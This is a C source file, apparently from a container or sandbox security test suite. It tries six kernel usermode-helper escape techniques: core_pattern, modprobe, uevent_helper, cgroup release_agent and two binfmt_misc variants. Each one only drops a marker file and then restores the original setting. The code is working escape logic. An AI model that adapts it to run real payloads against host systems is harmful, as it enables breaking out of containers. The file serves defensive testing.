// SPDX-License-Identifier: BSD-3-Clause
/* Ways to have the kernel itself start a program. It does so outside of our root; what it starts
 * leaves a mark here. */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define MARK "mark"

/* The path of @name of this folder as the kernel sees it. */
static const char *outside(const char *name)
{
	static char path[512];
	char folder[256];

	need(getcwd(folder, sizeof(folder)) ? 0 : -1, "folder");
	snprintf(path, sizeof(path), "%s%s/%s", outer_root(), folder, name);
	return path;
}

/* An unsigned script that leaves the mark. */
static void make_helper(void)
{
	char text[1024], mark[512];

	snprintf(mark, sizeof(mark), "%s", outside(MARK));
	snprintf(text, sizeof(text), "#!%s/bin/busybox sh\n: > %s\n", outer_root(), mark);
	write_file("helper", text, strlen(text), 0755);
}

/* Makes the helper the value of a setting, after @prefix, for as long as the attack runs. */
static int with_setting(const char *setting, const char *prefix, void (*trigger)(void))
{
	char before[256] = "", value[600];
	int fd = open(setting, O_RDONLY);
	int result;

	if (fd < 0)
		return NOT_HERE;
	need(read(fd, before, sizeof(before) - 1), setting);
	close(fd);
	make_helper();
	snprintf(value, sizeof(value), "%s%s", prefix, outside("helper"));
	result = echo(value, setting);
	if (result)
		return result;
	trigger();
	result = appears(MARK);
	need(echo(before, setting), setting);
	return result == -ENOENT ? -EACCES : result;
}

static void crash(void)
{
	struct rlimit limit = {RLIM_INFINITY, RLIM_INFINITY};
	pid_t pid = need(fork(), "fork");
	int status;

	if (!pid) {
		setrlimit(RLIMIT_CORE, &limit);
		abort();
	}
	need(waitpid(pid, &status, 0), "wait");
}

static int core_pattern(void)
{
	return with_setting("/proc/sys/kernel/core_pattern", "|", crash);
}

static void want_module(void)
{
	close(socket(AF_ROSE, SOCK_STREAM, 0)); /* of no module that is loaded */
}

static int modprobe_path(void)
{
	return with_setting("/proc/sys/kernel/modprobe", "", want_module);
}

static void new_device(void)
{
	echo("add", "/sys/class/mem/null/uevent");
}

static int uevent_helper(void)
{
	return with_setting("/sys/kernel/uevent_helper", "", new_device);
}

/* A control group of the old kind has one that is started when it becomes empty. */
static int release_agent(void)
{
	pid_t pid;
	int status;

	need(unshare(CLONE_NEWNS), "unshare");
	need(mount("", "/", NULL, MS_REC | MS_PRIVATE, NULL), "private mounts");
	need(mkdir("groups", 0755), "groups");
	if (mount("none", "groups", "cgroup", 0, "none,name=attack") < 0)
		return errno == EPERM || errno == EACCES ? -errno : NOT_HERE;
	make_helper();
	need(echo(outside("helper"), "groups/release_agent"), "release_agent");
	rmdir("groups/one"); /* of the last time: the kernel keeps the groups of a name */
	need(mkdir("groups/one", 0755), "group");
	need(echo("1", "groups/one/notify_on_release"), "notify_on_release");
	pid = need(fork(), "fork");
	if (!pid)
		_exit(-echo("0", "groups/one/cgroup.procs"));
	need(waitpid(pid, &status, 0), "wait");
	status = appears(MARK);
	return status == -ENOENT ? -EACCES : status;
}

/* The payload as the interpreter of a signed file that happens to begin with these bytes. */
static int binfmt(const char *flags)
{
	char value[700], folder[256];
	int error;

	if (access("/proc/sys/fs/binfmt_misc/register", F_OK) &&
	    mount("binfmt_misc", "/proc/sys/fs/binfmt_misc", "binfmt_misc", 0, NULL) < 0)
		return NOT_HERE;
	copy_file("payload", "interpreter");
	copy_file("strange", "program");
	need(getcwd(folder, sizeof(folder)) ? 0 : -1, "folder");
	snprintf(value, sizeof(value), ":attack:M::STRANGE::%s/interpreter:%s", folder, flags);
	error = echo(value, "/proc/sys/fs/binfmt_misc/register");
	if (error)
		return error;
	error = RUN("./program");
	need(echo("-1", "/proc/sys/fs/binfmt_misc/attack"), "binfmt_misc");
	return error;
}

static int binfmt_misc(void)
{
	return binfmt("");
}

/* Opened when it is registered, not when it is executed. */
static int binfmt_misc_fixed(void)
{
	return binfmt("F");
}

const struct attack helper_attacks[] = {
	{"core-pattern", core_pattern},
	{"modprobe-path", modprobe_path},
	{"uevent-helper", uevent_helper},
	{"release-agent", release_agent},
	{"binfmt-misc", binfmt_misc},
	{"binfmt-misc-fixed", binfmt_misc_fixed},
	{NULL, NULL},
};
